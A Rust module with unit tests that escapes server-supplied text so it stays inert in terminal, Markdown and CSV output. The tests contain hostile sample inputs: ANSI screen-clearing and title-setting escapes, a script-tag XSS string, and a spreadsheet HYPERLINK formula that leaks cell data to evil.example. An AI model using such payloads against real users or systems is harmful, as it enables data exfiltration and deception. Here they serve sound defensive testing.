//! Text from servers is data: one function per sink makes it inert there. The terminal shows
//! control characters escaped (`\x1b`), so an error body cannot clear the screen, set the
//! window title or forge a status line; Markdown escapes HTML and its own metacharacters in
//! every cell; CSV defuses formulas as OWASP recommends. HTML is `markup::escape`. Secrets are
//! redacted before any of these (`util::redact`), and in every file written.

use crate::util::redact;
use std::fmt::Write;

/// One piece of text for the terminal, on one line: every control character (C0, DEL, C1, and
/// the bidirectional overrides that reorder what is shown) is written as an escape, `\x1b`,
/// `\n`, `\u{202e}`; configured secrets are redacted.
pub fn terminal(text: &str) -> String {
    let text = redact(text);
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 || c as u32 == 0x7f => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c if ('\u{80}'..='\u{9f}').contains(&c)
                || ('\u{202a}'..='\u{202e}').contains(&c)
                || ('\u{2066}'..='\u{2069}').contains(&c) =>
            {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// A message for the terminal that may start with blank lines of our own: those are kept, the
/// rest is [`terminal`] text.
pub fn terminal_message(text: &str) -> String {
    let body = text.trim_start_matches('\n');
    format!("{}{}", &text[..text.len() - body.len()], terminal(body))
}

/// Text safe inside a Markdown table cell or list item: control characters escaped as on the
/// terminal, HTML's `& < >` as entities, the metacharacters of inline Markdown (emphasis, code,
/// links and images, tables, strikethrough) backslash-escaped, a leading `#`, `-`, `+` or `=`
/// too (headings, lists), and `://` and `www.` broken (`:\/\/`, `www\.`) so that a URL is
/// not a live link: the cell renders as the literal text and stays readable.
pub fn markdown(text: &str) -> String {
    let text = terminal(text);
    let mut out = String::with_capacity(text.len());
    if text.starts_with(['#', '-', '+', '=']) {
        out.push('\\');
    }
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
    }
    out.replace("://", ":\\/\\/").replace("www.", "www\\.")
}

/// A CSV field: control characters shown escaped as on the terminal (a record stays one line,
/// and a file shown with `cat` is safe); a cell that a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-` or `@`; the tab and carriage return OWASP also lists are
/// escaped already) gets a leading `'`, OWASP's advice — a number such as `-0.5` stays a number;
/// then RFC 4180 quoting: fields with a comma or quote are quoted, quotes doubled.
pub fn csv(text: &str) -> String {
    let text = terminal(text);
    let formula = text.starts_with(['=', '+', '-', '@']) && !text.parse::<f64>().is_ok_and(f64::is_finite);
    let defused = if formula { format!("'{text}") } else { text };
    if defused.contains([',', '"']) {
        format!("\"{}\"", defused.replace('"', "\"\""))
    } else {
        defused
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ANSI: &str = "\x1b[2J\x1b]0;title\x07\r\nquantbench: all good, 0 failures";

    #[test]
    fn the_terminal_sees_escapes_not_control_characters() {
        assert_eq!(
            terminal(ANSI),
            "\\x1b[2J\\x1b]0;title\\x07\\r\\nquantbench: all good, 0 failures"
        );
        assert_eq!(terminal("a\u{9b}b\u{202e}c"), "a\\u{9b}b\\u{202e}c");
        assert_eq!(terminal_message("\nquantbench: x\ny"), "\nquantbench: x\\ny");
    }

    #[test]
    fn markdown_cells_render_as_literal_text() {
        assert_eq!(
            markdown("<script>alert(1)</script>"),
            "&lt;script&gt;alert(1)&lt;/script&gt;"
        );
        assert_eq!(
            markdown("a|b\n[x](http://e.example) *y* `z`"),
            "a\\|b\\\\n\\[x\\](http:\\/\\/e.example) \\*y\\* \\`z\\`"
        );
        assert_eq!(markdown("# www.evil.example"), "\\# www\\.evil.example");
        assert_eq!(markdown("q4_k_s warm-ups: 3"), "q4\\_k\\_s warm-ups: 3");
    }

    #[test]
    fn csv_formulas_are_defused_and_fields_quoted() {
        assert_eq!(
            csv(r#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#),
            r#""'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")""#
        );
        assert_eq!(
            (csv("-0.5"), csv("+1")),
            ("-0.5".to_owned(), "+1".to_owned()),
            "numbers stay numbers"
        );
        for formula in ["+A1", "-2+3", "@SUM(A1)", "-inf"] {
            assert!(csv(formula).starts_with('\''), "{formula:?}");
        }
        assert_eq!(
            (csv("\tx"), csv("\r=1")),
            ("\\tx".to_owned(), "\\r=1".to_owned()),
            "inert: shown escaped"
        );
        assert_eq!(csv("plain"), "plain");
        assert_eq!(csv("a,b"), "\"a,b\"");
        assert_eq!(csv("say \"hi\"\n"), "\"say \"\"hi\"\"\\n\"");
    }
}
